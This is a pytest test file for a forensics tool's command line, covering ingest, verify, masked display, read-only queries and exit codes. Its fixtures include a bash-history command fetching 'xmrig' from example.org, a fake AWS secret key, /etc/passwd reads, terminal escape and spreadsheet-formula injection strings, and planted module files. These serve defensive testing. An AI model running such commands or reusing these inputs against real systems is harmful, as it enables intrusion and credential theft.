"""The command line, as a user and as a machine call it."""

from __future__ import annotations

import importlib
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from forensics import custody, ledger, readings
from forensics.case import Case
from forensics.cli import COMMANDS, run
from forensics.workers import Work

PROGRAM = Path(sys.executable).with_name("forensics")


@pytest.fixture
def case(tmp_path: Path, sealed) -> Path:
    """A copy of a sealed case, the test's own."""
    root = tmp_path / "case"
    shutil.copytree(sealed[0].root, root)
    return root


def called(*arguments: object, **options: object) -> subprocess.CompletedProcess:
    return subprocess.run(
        [str(PROGRAM), *map(str, arguments)], capture_output=True, text=True, check=False, timeout=120, **options
    )


def ref_of(root: Path, path: str, record: int) -> str:
    row = next(row for row in ledger.load(Case.open(root)).sources if row["path"] == path)
    return f"{row['source_id'][:12]}#{record}"


def test_help_comes_at_once_and_names_every_command() -> None:
    called("--help")
    began = time.monotonic()
    done = called("--help")
    assert time.monotonic() - began < 2  # 0.05 s on an idle machine; tests share one
    assert done.returncode == 0
    for name, help_ in COMMANDS.items():
        assert name in done.stdout
        command = importlib.import_module(f"forensics.commands.{name}").command
        assert command.name == name
        assert command.help
        assert help_.endswith(".")


def test_help_imports_nothing_heavy() -> None:
    heavy = "('pyarrow', 'duckdb', 'rich', 'pandas')"
    code = (
        f"import sys; from forensics.cli import run; run(['--help']); print([m for m in {heavy} if m in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.splitlines()[-1] == "[]"


def test_a_case_with_no_settings_goes_all_the_way(tmp_path: Path, evidence: Path) -> None:
    root = tmp_path / "case"
    assert called("init", root).returncode == 0
    taken = called("ingest", root, evidence, "--json", "--workers", "1")
    assert taken.returncode == 0, taken.stderr
    assert json.loads(taken.stdout)["deliveries"] == 11
    verified = called("verify", root, "--json")
    assert verified.returncode == 0
    assert json.loads(verified.stdout)["holds"] is True


def test_ingest_tells_what_was_taken_and_what_was_not(tmp_path: Path, evidence: Path, capfd) -> None:
    assert run(["init", str(tmp_path / "case")]) == 0
    assert run(["ingest", str(tmp_path / "case"), str(evidence), "--workers", "1"]) == 0
    told = capfd.readouterr().out
    assert "11 sources" in told
    assert "process: 13 rows" in told
    assert "2 not recognised" in told
    assert "link: symlink /etc/passwd" in told


def test_strict_ends_in_four_and_hashes_in_one(tmp_path: Path, evidence: Path, capfd) -> None:
    (tmp_path / "list").write_text(f"{'0' * 64}  picture.bin\n")
    run(["init", str(tmp_path / "case")])
    assert run(["ingest", str(tmp_path / "case"), str(evidence), "--strict", "--workers", "1"]) == 4
    assert run(["ingest", str(tmp_path / "case"), str(evidence), "--hashes", str(tmp_path / "list")]) == 1
    told = capfd.readouterr()
    assert "1 not as listed:\n  picture.bin" in told.out
    assert "--strict was given" in told.err


def test_a_plan_writes_nothing(tmp_path: Path, evidence: Path, capfd) -> None:
    before = sorted(tmp_path.rglob("*"))
    assert run(["ingest", str(tmp_path / "absent"), str(evidence), "--plan", "--json"]) == 0
    planned = {each["path"]: each for each in json.loads(capfd.readouterr().out)}
    assert sorted(tmp_path.rglob("*")) == before
    assert planned["copy of it"]["format"] == "bash_history"
    assert planned["old.history.gz"]["codec"] == "gz"
    assert planned["link"]["remark"] == "symlink /etc/passwd"
    assert planned["outer.tar.gz!a/.bash_history"]["format"] == "bash_history"
    assert planned["outer.tar.gz!inner.zip"]["remark"] == "archive, opened when taken"
    assert planned["picture.bin"]["format"] is None


def test_verify_names_what_changed_and_ends_in_one(case: Path, capfd) -> None:
    path = next((case / "tables/process").iterdir())
    data = bytearray(path.read_bytes())
    data[-5] ^= 1
    path.chmod(0o600)
    path.write_bytes(data)
    assert run(["verify", str(case)]) == 1
    assert f"changed: tables/process/{path.name}" in capfd.readouterr().out


def test_show_is_safe_and_masked_unless_told_otherwise(tmp_path: Path, capfd) -> None:
    line = b"#1772600000\nexport AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI0K7MDENGa8bPxRfiCY1234567AB \x1b]0;x\x07 blue\n"
    (tmp_path / "x.bash_history").write_bytes(line + b"#1772600001\nid\n#1772600002\nexit\n")
    (tmp_path / "case.toml").write_text('[redaction]\nwords = ["blue"]\n')
    root = tmp_path / "case"
    run(["init", str(root), "--settings", str(tmp_path / "case.toml")])
    run(["ingest", str(root), str(tmp_path / "x.bash_history"), "--workers", "1"])
    capfd.readouterr()
    ref = ref_of(root, "x.bash_history", 1)
    assert run(["show", str(root), ref]) == 0
    shown = capfd.readouterr()
    assert "wJalr" not in shown.out
    assert "\\x1b]0;x\\x07" in shown.out
    assert "blue" not in shown.out
    assert "x.bash_history record 1, line 1" in shown.err
    entries = len(custody.load(root).entries)
    assert run(["show", str(root), ref, "--reveal"]) == 0
    assert capfd.readouterr().out.encode() == line[:-1]
    told = custody.load(root).entries[entries:]
    assert [(entry["act"], entry["phase"]) for entry in told] == [("show", "begin"), ("show", "end")]
    assert Case.open(root).manifest.custody_head == told[-1]["hash"]
    assert run(["show", str(root), ref, "--reveal", "--raw", str(tmp_path / "raw")]) == 0
    assert (tmp_path / "raw").read_bytes() == line[:-1]
    assert run(["verify", str(root)]) == 0


def test_query_comes_in_pages(case: Path, capfd) -> None:
    ask = ["query", str(case), "select record from process order by source_id, record, part", "--json"]
    assert run(ask) == 0
    whole = json.loads(capfd.readouterr().out)
    pages = []
    for offset in range(0, len(whole) + 1, 5):
        assert run([*ask, "--limit", "5", "--offset", str(offset)]) == 0
        done = capfd.readouterr()
        pages += json.loads(done.out)
        assert ("--offset" in done.err) == (offset + 5 < len(whole))
    assert pages == whole
    assert run([*ask, "--csv"]) == 2


def test_show_tells_place_bytes_and_row_as_json(case: Path, capfd) -> None:
    ref = ref_of(case, "hosts/gpu1/home/bob/.bash_history", 2)
    assert run(["show", str(case), ref, "--json"]) == 0
    told = json.loads(capfd.readouterr().out)
    assert (told["ref"], told["table"], told["record"], told["line"]) == (ref, "process", 2, 3)
    assert told["text"] == "#1772500100\ncurl -sO http://example.org/xmrig"
    assert told["row"]["command"] == "curl -sO http://example.org/xmrig"
    assert sum(length for _, length in told["spans"]) == len(told["text"])
    assert run(["show", str(case), ref, "--json", "--reveal"]) == 2


def test_query_answers_masks_and_only_reads(case: Path, capfd) -> None:
    assert run(["query", str(case), "select command, ts from process order by ts, source_id limit 1", "--json"]) == 0
    assert json.loads(capfd.readouterr().out) == [{"command": "ls -la", "ts": "2026-03-03 01:06:40+00:00"}]
    assert run(["query", str(case), "select '=1+1' as a, 5 as b", "--csv"]) == 0
    assert capfd.readouterr().out == "a,b\n'=1+1,5\n"
    assert run(["query", str(case), "select 1 as one", "--limit", "1"]) == 0
    assert "one" in capfd.readouterr().out
    for sql in (
        "copy (select 1) to 'x.parquet'",
        "select 1; select 2",
        "create table x as select 1",
        "select * from read_text('/etc/passwd')",
        "select * from nowhere",
        "attach 'x.db'",
        "nonsense \x1b[31m",
    ):
        assert run(["query", str(case), sql]) == 2, sql
        told = capfd.readouterr().err
        assert told.startswith("forensics: ")
        assert told.count("\n") == 1
        assert "\x1b" not in told


def test_export_needs_an_analysis_and_gives_its_very_bytes(case: Path, tmp_path: Path, capfdbinary) -> None:
    assert run(["export", str(case), "--format", "incident"]) == 2
    with Case.open(case).writing("analyze") as act:
        act.put("incident.json", b'{"schema":"x"}\n')
    capfdbinary.readouterr()
    assert run(["export", str(case), "--format", "incident"]) == 0
    assert capfdbinary.readouterr().out == b'{"schema":"x"}\n'
    assert run(["export", str(case), "--format", "incident", "--output", str(tmp_path / "out.json")]) == 0
    assert (tmp_path / "out.json").read_bytes() == b'{"schema":"x"}\n'


def test_formats_are_listed_and_a_file_is_explained(evidence: Path, capfd) -> None:
    assert run(["formats", "--json"]) == 0
    listed = {each["name"]: each for each in json.loads(capfd.readouterr().out)}
    assert listed["bash_history"]["tables"] == ["process"]
    assert run(["formats", "--explain", str(evidence / "old.history.gz")]) == 0
    assert capfd.readouterr().out == "old.history.gz: bash_history, compressed with gz\n"


def test_faults_are_one_line_with_their_code(tmp_path: Path, case: Path, evidence: Path) -> None:
    for arguments, code, told in (
        (["verify", tmp_path / "absent"], 2, "no case is here"),
        (["ingest", case, tmp_path / "absent"], 2, "nothing here to ingest"),
        (["ingest", case, evidence, "--as", "morse"], 2, "no format is called 'morse'"),
        (["ingest", case], 2, "Missing argument"),
        (["nonsense"], 2, "No such command"),
        (["show", case, "x"], 2, "is no reference"),
        (["show", case, "a1b2c3d4e5f6#1", "--raw", "x"], 2, "say --reveal too"),
        (["init", evidence], 2, "not empty"),
    ):
        done = called(*arguments)
        assert done.returncode == code, arguments
        assert told in done.stderr
        assert done.stderr.count("\n") == 1
        assert "Traceback" not in done.stderr


def test_a_busy_case_ends_in_five(case: Path, evidence: Path) -> None:
    with Case.open(case).writing("slow"):
        done = called("ingest", case, evidence)
    assert done.returncode == 5
    assert f"process {os.getpid()} (slow) writes to it" in done.stderr


def test_full_storage_ends_in_six_and_leaves_the_case_unharmed(case: Path, evidence: Path) -> None:
    (evidence / "large.bin").write_bytes(os.urandom(3 << 20))
    code = (
        "import resource, sys; resource.setrlimit(resource.RLIMIT_FSIZE, (1 << 20, 1 << 20));"
        "from forensics.cli import main; main(sys.argv[1:])"
    )
    done = subprocess.run(
        [sys.executable, "-P", "-c", code, "ingest", case, evidence],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 6, done.stderr
    assert done.stderr.count("\n") == 1
    assert called("verify", case).returncode == 0


def test_an_interruption_ends_in_130_and_leaves_the_case_unharmed(case: Path, evidence: Path) -> None:
    with (evidence / "long.bin").open("wb") as file:
        file.truncate(8 << 30)  # a hole: takes no room, and longer to read than a busy machine looks away
    process = subprocess.Popen([str(PROGRAM), "ingest", str(case), str(evidence)], stderr=subprocess.PIPE, text=True)
    while custody.load(case).open_act is None:
        time.sleep(0.01)
    process.send_signal(2)
    _, told = process.communicate(timeout=60)
    assert process.returncode == 130, told
    assert told.strip() == "forensics: interrupted; the case is as it was"
    assert called("verify", case).returncode == 0


def test_an_unforeseen_fault_is_one_line_too(monkeypatch: pytest.MonkeyPatch, case: Path, capfd) -> None:
    def broken(*_: object) -> None:
        raise RuntimeError("out of order \x1b[2J")

    monkeypatch.setattr("forensics.verify.verify", broken)
    monkeypatch.delenv("FORENSICS_TRACEBACK", raising=False)
    assert run(["verify", str(case)]) == 1
    told = capfd.readouterr().err
    assert told.startswith("forensics: a defect of this tool: RuntimeError: out of order \\x1b[2J")
    assert told.count("\n") == 1


def test_nobody_reading_on_is_no_fault(case: Path) -> None:
    done = subprocess.run(f"'{PROGRAM}' formats | head -1", shell=True, capture_output=True, text=True, check=True)
    assert done.stderr == ""


def test_as_a_module_it_runs_only_with_a_safe_path(tmp_path: Path) -> None:
    help_ = ["-m", "forensics", "--help"]
    refused = subprocess.run([sys.executable, *help_], capture_output=True, text=True, check=False)
    assert refused.returncode == 2
    assert "refusing to run with the working folder on the module path" in refused.stderr
    done = subprocess.run(
        [sys.executable, "-P", "-m", "forensics", "--help"], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0


def test_a_hostile_working_folder_runs_nothing(tmp_path: Path, case: Path, evidence: Path) -> None:
    hostile = tmp_path / "hostile"
    hostile.mkdir()
    for name in ("parsers", "pandas", "multiprocessing", "click", "json", "zstandard"):
        (hostile / f"{name}.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
    assert called("ingest", case, evidence, "--workers", "1", cwd=hostile).returncode == 0
    assert called("query", case, "select 1", cwd=hostile).returncode == 0
    assert not (tmp_path / "ran").exists()


def test_books_that_do_not_balance_end_in_three(
    tmp_path: Path, evidence: Path, monkeypatch: pytest.MonkeyPatch, capfd
) -> None:
    (tmp_path / "naughty.py").write_text(
        "from parsers.errors import BooksDoNotBalance\ndef read(*_):\n    raise BooksDoNotBalance('counted twice')\n"
    )
    monkeypatch.syspath_prepend(tmp_path)

    def work(function: str, *rest: object) -> Work:
        return Work("naughty:read" if function == "forensics.reading:read" else function, *rest)

    monkeypatch.setattr(readings, "Work", work)
    root = tmp_path / "case"
    run(["init", str(root)])
    assert run(["ingest", str(root), str(evidence / "copy of it"), "--workers", "1"]) == 3
    assert "do not balance" in capfd.readouterr().err
    [row] = ledger.load(Case.open(root)).sources
    assert (row["status"], row["bytes_quarantined"]) == ("partly_read", row["bytes"])


def test_a_pdf_needs_a_browser_and_says_so(case: Path, tmp_path: Path) -> None:
    done = called("report", case, "--pdf", env=os.environ | {"PATH": str(tmp_path)})
    assert (done.returncode, done.stdout) == (2, "")
    assert "no Chromium is installed" in done.stderr
